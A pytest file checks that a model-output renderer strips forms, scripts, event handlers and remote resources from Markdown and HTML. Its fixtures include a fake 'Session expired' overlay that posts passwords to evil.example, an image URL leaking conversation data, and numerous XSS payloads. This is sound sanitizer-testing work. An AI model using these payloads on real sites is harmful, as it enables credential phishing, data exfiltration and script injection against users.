"""arena.render: a model's Markdown becomes HTML that keeps what Markdown needs and loads nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from arena.render import clean, markdown_html, plain_html

OVERLAY = ('<div style="position:fixed;inset:0;z-index:9999;background:white">'
           '<form action="https://evil.example/steal" method="post"><h2>Session expired</h2>'
           '<input type="password" name="password"><button type="submit">Log in</button></form></div>')
PNG = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQ"
       "AAAABJRU5ErkJggg==")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def _elements(html: str) -> list[tuple[str, dict]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


def _tags(html: str) -> set[str]:
    return {tag for tag, _ in _elements(html)}


def _attributes(html: str) -> dict[str, list[str]]:
    seen: dict[str, list[str]] = {}
    for _, attrs in _elements(html):
        for name, value in attrs.items():
            seen.setdefault(name, []).append(value or "")
    return seen


@pytest.mark.parametrize("render", [markdown_html, clean])
def test_an_overlay_form_loses_its_form_inputs_buttons_and_style(render):
    html = render(OVERLAY)
    assert not _tags(html) & {"form", "input", "button"}
    assert not {"style", "action", "type", "name"} & set(_attributes(html))
    assert "Session expired" in html  # the words stay, harmless


@pytest.mark.parametrize("hostile", [
    '<img src="https://evil.example/a.png" onerror="alert(1)">',
    "![cat](https://evil.example/cat.png?conversation=secret)",
    '<img srcset="https://evil.example/s.png 2x">',
    '<picture><source srcset="https://evil.example/p.png"><img src="x.png"></picture>',
    '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3"></audio>',
    '<p style="background:url(https://evil.example/bg.png)">bg</p>',
    "<style>body { background: url(https://evil.example/css.png) } @import 'https://evil.example/i.css';</style>",
    '<svg><image href="https://evil.example/svg.png"/></svg>',
    '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>'
    '<embed src="https://evil.example/e">',
    '<link rel="prefetch" href="https://evil.example/prefetch"><link rel="stylesheet" href="https://evil.example/s">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
    '<body background="https://evil.example/bg.png"><table background="https://evil.example/t.png"></table>',
    '<input type="image" src="https://evil.example/i.png">',
])
@pytest.mark.parametrize("render", [markdown_html, clean])
def test_no_external_resource_survives(hostile, render):
    html = render(hostile)
    attributes = _attributes(html)
    loads = [v for name in ("src", "srcset", "poster", "background", "data", "action", "href") for v in
             attributes.get(name, []) if name != "href"]
    assert all(value.startswith("data:image/") for value in loads), html
    assert "style" not in attributes and "<style" not in html
    assert not _tags(html) & {"img", "video", "audio", "source", "picture", "svg", "image", "iframe", "object",
                              "embed", "link", "meta", "base", "style", "input", "body"} - {"img"}
    for tag, attrs in _elements(html):
        assert tag != "img" or attrs.get("src", "").startswith("data:image/")


def test_a_remote_picture_becomes_a_link_that_says_where_it_goes():
    html = markdown_html("![a cat](https://pics.example/cat.png)")
    assert "<img" not in html
    assert 'href="https://pics.example/cat.png"' in html and "[image “a cat”: https://pics.example/cat.png]" in html
    assert 'target="_blank"' in html and 'rel="noopener noreferrer"' in html


def test_a_data_url_picture_is_kept():
    html = markdown_html(f"![chart]({PNG})")
    assert f'<img src="{PNG}"' in html


@pytest.mark.parametrize("render", [markdown_html, clean])
def test_event_handlers_and_script_urls_are_dropped(render):
    html = render('<a href="javascript:alert(1)" onclick="alert(2)">x</a> [y](javascript:alert(3)) '
                         '<a href="vbscript:msgbox">v</a> <a href="data:text/html,<script>alert(4)</script>">d</a>'
                         '<b onmouseover="alert(5)">b</b><script>alert(6)</script>')
    hrefs = _attributes(html).get("href", [])
    assert all(href.startswith("https:") for href in hrefs)
    assert "<script" not in html and not [name for name in _attributes(html) if name.startswith("on")]


def test_raw_html_in_an_answer_is_shown_as_text():
    html = markdown_html('<b onmouseover="alert(1)">bold</b> and <script>alert(2)</script>')
    assert '&lt;b onmouseover="alert(1)"&gt;bold&lt;/b&gt;' in html and "<script" not in html
    assert _tags(html) == {"p"}


def test_links_open_in_a_new_tab_without_opener():
    html = markdown_html("[docs](https://example.org/docs)") + clean('<a href="https://x.example" target="_top">t</a>')
    assert html.count('target="_blank"') == 2 and html.count('rel="noopener noreferrer"') == 2
    assert "_top" not in html


def test_markdown_survives_tables_code_lists_quotes_and_emphasis():
    text = ("# Title\n\nSome *em* and **strong** and `code` and ~~gone~~.\n\n- one\n- two\n\n1. first\n\n"
            "> quoted\n\n---\n\n| name | score |\n|---|---:|\n| a | 1 |\n\n```python\nprint('<b>hi</b>')\n```\n")
    html = markdown_html(text)
    for tag in ("h1", "em", "strong", "code", "ul", "ol", "li", "blockquote", "hr", "table", "th", "td", "pre", "s"):
        assert f"<{tag}" in html, tag
    assert '<div class="arena-table"><table>' in html
    assert 'class="language-python"' in html and "&lt;b&gt;hi&lt;/b&gt;" in html


def test_latex_renders_as_mathml_and_prices_stay_text():
    html = markdown_html("Euler: $e^{i\\pi}+1=0$, it costs $5 and $10.\n\n$$\\frac{a}{b}$$\n\nand \\(x^2\\)")
    assert html.count("<math") == 3 and "<mfrac>" in html and 'display="block"' in html
    assert "costs $5 and $10" in html


def test_broken_latex_shows_its_source():
    html = markdown_html("$$\\frac{a}{$$")
    assert "<code>" in html and "\\frac{a}{" in html


def test_mathml_cannot_smuggle_html():
    html = clean('<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
                         '<mi href="javascript:alert(2)" style="position:fixed">x</mi></math>')
    assert "onerror" not in html and "href" not in html and "style" not in html and "annotation" not in html


def test_user_text_is_shown_as_written():
    assert plain_html("<b>hi</b>\nthere") == '<div class="arena-plain">&lt;b&gt;hi&lt;/b&gt;\nthere</div>'


def _hostile_record(store):
    import time

    from arena.store import OutputRecord, new_id

    comparison_id = new_id()
    store.ensure_comparison(comparison_id, "a prompt", time.time())
    text = (OVERLAY + "\n\n![x](https://evil.example/md.png)\n\n<img src=https://evil.example/i.png onerror=alert(1)>"
            "\n\n| a | b |\n|---|---|\n| **1** | 2 |\n\n$x^2$")
    return store.save(OutputRecord(
        id=new_id(), comparison_id=comparison_id, created_at=time.time(), model="m", kind="openai-chat",
        output="text", status="done", prompt="a prompt", input_image=None, text=text, error=None, images=[],
        thumb=None, entry={"name": "m"}, params={}, used={}, versions={}, metrics={}, notices=[]))


def _assert_inert_with_markdown(page: str) -> None:
    elements = _elements(page)
    assert not {tag for tag, _ in elements} & {"form", "input", "button", "script", "iframe", "object", "embed"}
    assert not [tag for tag, attrs in elements if any(name.startswith("on") for name in attrs)]
    assert not [attrs for tag, attrs in elements if tag == "img" and "evil.example" in attrs.get("src", "")]
    assert "<strong>1</strong>" in page and "<math" in page and "[image “x”: https://evil.example/md.png]" in page


def test_the_gallery_export_renders_answers_as_safe_markdown(tmp_path):
    from arena.store import Store
    from arena.store.export import export

    store = Store(tmp_path / "data")
    record = _hostile_record(store)
    folder = export(store, [record], tmp_path / "out", "html")
    _assert_inert_with_markdown((folder / "index.html").read_text())


def test_the_suite_report_renders_full_answers_as_safe_markdown(tmp_path):
    from arena.store import Store
    from arena.suites import report
    from arena.suites.results import MatrixCell

    store = Store(tmp_path / "data")
    cell = MatrixCell(run_id="r", case_id="c", model="m", sample=0, case_hash="h", status="done", cached=False,
                refused=None, checks=[], record=_hostile_record(store))
    _assert_inert_with_markdown(report.cell_html(cell, lambda record: None, clickable=False, full_text=True))


@pytest.mark.parametrize("text", [
    "Intro.\n\n1. first\n\n2. second\n\n   more of it\n\nAfter.\n\n> quote\n\n> more\n\nSee [ref][1].\n\n[1]: https://x.org\n",
    "Text\n\n```python\nx = 1\n\ny = 2\n```\n\nmore\n\n$$\na\n\nb\n$$\n\ndone\n",
    "- a\n- b\n\n  - nested\n\nPara *em*\n\n    code block\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nlast $x$\n",
])
def test_a_growing_answer_renders_as_the_whole_would_at_every_length(text):
    from arena.render import streaming_html

    for end in range(len(text) + 1):
        assert streaming_html(text[:end]) == markdown_html(text[:end]), text[:end]
